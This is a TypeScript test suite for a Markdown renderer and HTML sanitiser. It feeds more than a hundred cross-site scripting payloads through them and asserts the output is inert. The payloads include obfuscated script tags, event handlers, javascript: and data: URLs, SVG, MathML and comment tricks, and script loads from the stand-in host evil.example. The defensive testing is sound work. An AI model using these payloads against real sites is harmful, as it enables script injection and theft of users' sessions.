import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
// htmlparser2 is not a direct dependency: it comes with sanitize-html. Parsing the output with
// a real HTML parser (rather than matching strings) means we assert on what a browser would
// build from the stored HTML, with entities in attribute values already decoded.
import { DomUtils, parseDocument } from 'htmlparser2';
import { renderMarkdown, sanitise } from './rich-text.ts';

/**
 * Hostile inputs. Each one goes through both renderMarkdown() (Markdown first) and sanitise()
 * (HTML straight in), so the HTML payloads also test the sanitiser on its own and the Markdown
 * payloads also test what happens if Markdown source ever reaches sanitise() as HTML.
 */
const PAYLOADS: string[] = [
  // --- <script> in many spellings ---
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<script>alert(1)',
  '<script type="module">import("//evil.example/m.js")</script>',
  '</script><script>alert(1)</script>',
  '<script>/*</script><script>*/alert(1)</script>',
  'Hello <scri\u0000pt>alert(1)</script> world',

  // --- event-handler attributes ---
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)">hi</p>',
  '<a href="https://example.org" onmouseover="alert(1)">x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<p/onclick=alert(1)>x</p>',
  '<p ONCLICK=alert(1)>x</p>',
  '<strong\nonpointerenter=alert(1)>x</strong>',
  '<video><source onerror=alert(1)></video>',
  '<p class="govuk-body" title="x" onclick="alert(1)">x</p>',

  // --- javascript:/vbscript:/data: in Markdown links ---
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](javascript://%0aalert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]( javascript:alert(1) "title")',
  '[x](javascript&#58;alert(1))',
  '[x](jav&#x09;ascript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](\tjavascript:alert(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/)',

  // --- autolinks and bare (linkified) text ---
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<vbscript:msgbox(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  'javascript:alert(1)',
  'www.example.com/"><script>alert(1)</script>',

  // --- reference-style links ---
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[r]\n\n[r]: <javascript:alert(1)> "t"',
  '[x][r]\n\n[r]: data:text/html,<script>alert(1)</script>',
  '[x][r]\n\n[r]: https://example.org "a\\" onmouseover=\\"alert(1)"',

  // --- images ---
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](https://example.org/x.png "\\" onerror=\\"alert(1)")',
  '![x" onerror="alert(1)](https://example.org/x.png)',

  // --- entity- and whitespace-obfuscated schemes in raw HTML ---
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=JaVaScRiPt:alert(1)>x</a>',
  '<a/href="javascript:alert(1)">x</a>',
  "<a href='javas&#99;ript:alert(1)'>x</a>",
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jav&Tab;ascript:alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="https://example.org" href="javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',

  // --- SVG ---
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',

  // --- embedding, forms, document-level tags ---
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',

  // --- CSS ---
  '<style>body{background:url(javascript:alert(1))}</style>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<p style="width:expression(alert(1))">x</p>',
  '<a href="https://example.org" style="background:url(javascript:alert(1))">x</a>',

  // --- MathML ---
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',

  // --- comments, CDATA, processing instructions ---
  '<!--<script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<!--><script>alert(1)</script>-->',
  '<!---><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<svg><![CDATA[><script>alert(1)</script>]]></svg>',
  '<? <script>alert(1)</script> ?>',
  '<!DOCTYPE html><script>alert(1)</script>',

  // --- nested, broken and raw-text tags (parser-differential tricks) ---
  '<a href="javascript:alert(1)"<b>x</b>',
  '<p <script>alert(1)</script>>x</p>',
  '<a href="https://example.org"><a href="javascript:alert(1)">y</a></a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title></title><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',

  // --- Markdown mixed with HTML ---
  '<div>[x](javascript:alert(1))</div>',
  '<p>**<script>alert(1)</script>**</p>',
  '<a href="javascript:alert(1)">**x**</a>',
  '> <script>alert(1)</script>',
  '- [x](javascript:alert(1))\n- <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '[<img src=x onerror=alert(1)>](https://example.org)',

  // --- Markdown link titles with quotes ---
  '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
  "[x](https://example.org 't\\' onclick=alert(1)')",
  '[x](https://example.org (a" onclick="alert(1)))',
  '[x](https://example.org "&quot; onclick=&quot;alert(1)")',
];

/**
 * Payloads inside code: besides being inert, the text must survive as text inside <code>
 * (escaped in the HTML), not be dropped or turned into markup. Pairs of [markdown, text].
 */
const CODE_PAYLOADS: [string, string][] = [
  ['`<script>alert(1)</script>`', '<script>alert(1)</script>'],
  ['```html\n<script>alert(1)</script>\n```', '<script>alert(1)</script>'],
  ['```"><script>alert(1)</script>\nplain\n```', 'plain'],
  ['    <img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
  ['`` <a href="javascript:alert(1)">x</a> ``', '<a href="javascript:alert(1)">x</a>'],
  ['~~~\n<svg onload=alert(1)>\n~~~', '<svg onload=alert(1)>'],
];

const ALL_PAYLOADS = [...PAYLOADS, ...CODE_PAYLOADS.map(([input]) => input)];

const FORBIDDEN_ELEMENTS = new Set([
  'script',
  'iframe',
  'object',
  'embed',
  'form',
  'meta',
  'base',
  'link',
  'style',
  'svg',
  'math',
]);

const URL_ATTRIBUTES = new Set(['href', 'src', 'xlink:href', 'action', 'formaction']);

// What rich-text.ts promises to keep; anything else surviving is a regression even if inert.
const ALLOWED_ELEMENTS = new Set([
  'p',
  'h2',
  'h3',
  'h4',
  'ul',
  'ol',
  'li',
  'a',
  'strong',
  'em',
  'blockquote',
  'code',
  'pre',
  'hr',
  'br',
]);
const ALLOWED_ATTRIBUTES = new Set(['href', 'class', 'rel']);

/** All elements in the parsed output, at any depth. */
function elementsOf(html: string) {
  return DomUtils.findAll(() => true, parseDocument(html).children);
}

/**
 * Normalise a URL the way a browser does before reading its scheme, but more aggressively:
 * drop every ASCII whitespace/control character anywhere (browsers strip tab/LF/CR anywhere and
 * C0 controls/space at the ends), then lower-case. Entities were already decoded by the parser.
 */
function normaliseUrl(value: string): string {
  return [...value.trim()]
    .filter((ch) => {
      const code = ch.charCodeAt(0);
      return code > 0x20 && code !== 0x7f;
    })
    .join('')
    .toLowerCase();
}

/** Safe if http(s)/mailto, a fragment, a path, or has no scheme at all (relative). */
function isSafeUrl(value: string): boolean {
  const url = normaliseUrl(value);
  if (/^(https?:|mailto:|#|\/)/.test(url)) return true;
  // Anything with a scheme (javascript:, vbscript:, data:, file:…) is unsafe. A string whose
  // "scheme" has characters a scheme cannot contain (e.g. "jav%09ascript:") is a relative URL.
  return !/^[a-z][a-z0-9+.-]*:/.test(url);
}

/** Assert the HTML is inert; `label` names the payload so a failure says which one. */
function assertInert(html: string, label: string): void {
  // htmlparser2 ends comments differently from browsers (e.g. at "--!>" or "<!-->"), so a
  // comment, CDATA section or processing instruction in the output could hide markup from this
  // check while a browser runs it. The sanitiser never needs to emit any, so forbid them outright.
  assert.ok(!/<[!?]/.test(html), `comment/CDATA/PI markup survived — ${label}\n  output: ${html}`);
  for (const el of elementsOf(html)) {
    const where = `${label}\n  output: ${html}`;
    assert.ok(!FORBIDDEN_ELEMENTS.has(el.name), `<${el.name}> survived — ${where}`);
    assert.ok(ALLOWED_ELEMENTS.has(el.name), `<${el.name}> is not allow-listed — ${where}`);
    for (const [name, value] of Object.entries(el.attribs)) {
      assert.ok(!name.startsWith('on'), `event handler ${name}="${value}" survived — ${where}`);
      assert.notEqual(name, 'style', `style="${value}" survived — ${where}`);
      assert.ok(ALLOWED_ATTRIBUTES.has(name), `attribute ${name} is not allow-listed — ${where}`);
      if (URL_ATTRIBUTES.has(name)) {
        assert.ok(isSafeUrl(value), `unsafe ${name}=${JSON.stringify(value)} — ${where}`);
      }
    }
  }
}

function label(index: number, payload: string): string {
  return `payload #${index} ${JSON.stringify(payload)}`;
}

describe('renderMarkdown(…, { ugc: true }) makes hostile input inert', () => {
  ALL_PAYLOADS.forEach((payload, i) => {
    test(label(i, payload), () => {
      assertInert(renderMarkdown(payload, { ugc: true }), label(i, payload));
    });
  });
});

describe('sanitise(…, { ugc: true }) makes hostile input inert', () => {
  ALL_PAYLOADS.forEach((payload, i) => {
    test(label(i, payload), () => {
      assertInert(sanitise(payload, { ugc: true }), label(i, payload));
    });
  });
});

test('there are at least 60 hostile payloads', () => {
  assert.ok(ALL_PAYLOADS.length >= 60, `only ${ALL_PAYLOADS.length} payloads`);
});

// Positive checks, so the suite cannot pass by emptying everything.

test('bold Markdown becomes <strong>', () => {
  const html = renderMarkdown('**bold**', { ugc: true });
  const strong = elementsOf(html).filter((el) => el.name === 'strong');
  assert.equal(strong.length, 1, html);
  assert.equal(DomUtils.textContent(strong[0]!), 'bold', html);
});

test('a normal https link keeps its href and gets rel="nofollow ugc noopener"', () => {
  const html = renderMarkdown('[a site](https://example.org/page?a=1&b=2)', { ugc: true });
  const links = elementsOf(html).filter((el) => el.name === 'a');
  assert.equal(links.length, 1, html);
  const link = links[0]!;
  assert.equal(link.attribs.href, 'https://example.org/page?a=1&b=2', html);
  const rel = (link.attribs.rel ?? '').split(/\s+/);
  for (const token of ['nofollow', 'ugc', 'noopener']) {
    assert.ok(rel.includes(token), `rel lacks ${token}: ${html}`);
  }
  assert.equal(DomUtils.textContent(link), 'a site', html);
});

test('mailto and relative links survive', () => {
  const html = renderMarkdown('[mail](mailto:a@example.org) [here](/services#top)', { ugc: true });
  const hrefs = elementsOf(html)
    .filter((el) => el.name === 'a')
    .map((el) => el.attribs.href);
  assert.deepEqual(hrefs, ['mailto:a@example.org', '/services#top'], html);
});

test('a fenced code block shows <script> escaped inside <code>', () => {
  const html = renderMarkdown('```\n<script>alert(1)</script>\n```', { ugc: true });
  assert.ok(html.includes('&lt;script&gt;alert(1)&lt;/script&gt;'), html);
  const code = elementsOf(html).filter((el) => el.name === 'code');
  assert.equal(code.length, 1, html);
  assert.equal(DomUtils.textContent(code[0]!).trim(), '<script>alert(1)</script>', html);
});

describe('payloads inside code come out as text inside <code>', () => {
  CODE_PAYLOADS.forEach(([payload, text], i) => {
    test(label(i, payload), () => {
      const html = renderMarkdown(payload, { ugc: true });
      const code = elementsOf(html).filter((el) => el.name === 'code');
      assert.equal(code.length, 1, `${label(i, payload)}: ${html}`);
      assert.equal(DomUtils.textContent(code[0]!).trim(), text, `${label(i, payload)}: ${html}`);
    });
  });
});
